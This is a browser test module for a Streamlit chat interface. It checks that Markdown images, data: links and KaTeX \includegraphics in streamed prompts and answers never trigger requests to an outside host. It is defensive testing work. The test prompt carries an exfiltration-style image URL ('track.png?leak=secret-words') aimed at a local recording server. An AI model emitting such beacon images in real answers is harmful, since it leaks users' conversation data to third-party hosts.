"""Answers and prompts can't phone out, in a real browser (issue 16, finding 3).

The mock echoes a prompt (``[fault:echo:2]``, two characters per chunk, so every construct
is split across stream updates) holding a Markdown image whose URL points at a recording
HTTP server on loopback, and a ``data:`` link. The viewer's browser must make no request to
that server (checked by the server's own log and by Playwright's request events), show the
image as a link naming its host, and show the ``data:`` link as text. With the host on the
operator's allow-list (``CHAT_IMAGE_HOSTS``) the same image is fetched: the check can fail.
"""

from __future__ import annotations

import base64
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from .chat_ui import ChatPage
from .harness import StreamlitServer, chromium_missing_reason

if chromium_missing_reason():
    pytest.skip(chromium_missing_reason(), allow_module_level=True)

pytestmark = pytest.mark.browser

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


class Recorder:
    """An image host on loopback that records the path of every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def recorder():
    server = Recorder()
    yield server
    server.close()


@pytest.fixture(scope="module")
def app():
    with StreamlitServer("app.py") as server:  # the built-in mock, no image host allowed
        yield server


def prompt_for(host: str) -> str:
    # KaTeX (math) only loads \includegraphics when trusted; Streamlit does not trust it: checked too
    return (f"Look ![leak chart](http://{host}/track.png?leak=secret-words) and "
            "[click me](data:text/html,hello) then *done* "
            f"$\\includegraphics{{http://{host}/katex.png}}$ [fault:echo:2]")


def watch_requests(chat: ChatPage, host: str) -> list[str]:
    seen: list[str] = []
    chat.page.on("request", lambda request: seen.append(request.url) if host in request.url else None)
    return seen


def assert_nothing_phoned_out(chat: ChatPage, recorder: Recorder, seen: list[str]) -> None:
    time.sleep(0.5)  # an image inserted by the last update would have been requested by now
    assert recorder.paths == [], f"the image host was called: {recorder.paths}"
    assert seen == [], f"the browser requested {seen}"
    assert chat.page.locator(f'img[src*="{recorder.host}"]').count() == 0
    assert chat.page.locator('a[href^="data:"]').count() == 0


def test_an_image_in_an_answer_or_a_prompt_is_not_fetched_and_data_links_are_text(open_chat, recorder):
    chat = open_chat()
    seen = watch_requests(chat, recorder.host)
    chat.send(prompt_for(recorder.host))  # speed "Realistic": the echo streams over ~50 updates
    chat.wait_until_done(timeout=60)
    assert_nothing_phoned_out(chat, recorder, seen)

    answer = chat.assistant.last
    shown = f"🖼 leak chart ({recorder.host})"
    assert shown in chat.answer_text()
    link = answer.locator(f'a[href^="http://{recorder.host}/track.png"]')
    assert link.count() == 1 and shown in link.inner_text()  # a link naming the host, not an image
    assert "[click me](data:text/html,hello)" in chat.answer_text()  # the data: link as text
    assert answer.locator("em", has_text="done").count() == 1  # the rest is still Markdown
    assert answer.locator(".katex").count() >= 1  # the math rendered, and loaded nothing
    prompt = chat.user.last  # the user's own bubble: exactly what was typed, as text
    assert f"![leak chart](http://{recorder.host}/track.png" in prompt.inner_text()
    assert prompt.locator("img").count() == 0
    hrefs = prompt.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
    assert all(h.startswith(("http://", "https://")) for h in hrefs), hrefs  # a bare URL may be linkified; data: never

    chat.page.reload()  # drawn again from the saved conversation
    chat.input.wait_for(timeout=30_000)
    chat.wait_until_idle(timeout=30)
    chat.assistant.last.locator(f'a[href^="http://{recorder.host}/track.png"]').wait_for(timeout=30_000)
    assert_nothing_phoned_out(chat, recorder, seen)


def test_an_image_from_an_allowed_host_is_fetched(browser, recorder):
    with StreamlitServer("app.py", env={"CHAT_IMAGE_HOSTS": recorder.host}) as allowed:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.set_default_timeout(15_000)
        try:
            chat = ChatPage.open(context.new_page(), allowed.url)
            seen = watch_requests(chat, recorder.host)
            chat.send(prompt_for(recorder.host))
            chat.wait_until_done(timeout=60)
            image = chat.assistant.last.locator(f'img[src="http://{recorder.host}/track.png?leak=secret-words"]')
            image.wait_for(timeout=30_000)
            deadline = time.monotonic() + 15
            while "/track.png?leak=secret-words" not in recorder.paths and time.monotonic() < deadline:
                time.sleep(0.05)
            assert "/track.png?leak=secret-words" in recorder.paths
            assert any("/track.png" in url for url in seen)
            assert not any("katex.png" in path for path in recorder.paths)  # math never loads images
            assert chat.page.locator('a[href^="data:"]').count() == 0  # links are still checked
        finally:
            context.close()
